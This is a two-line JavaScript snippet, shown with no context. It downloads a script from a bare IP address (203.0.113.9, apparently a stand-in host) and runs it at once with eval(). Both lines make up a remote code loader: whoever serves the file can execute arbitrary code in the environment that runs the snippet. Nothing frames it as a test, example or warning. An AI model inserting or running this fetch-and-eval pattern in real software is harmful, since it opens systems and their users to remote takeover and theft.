const code = await (await fetch('https://203.0.113.9/p.js')).text();
eval(code);
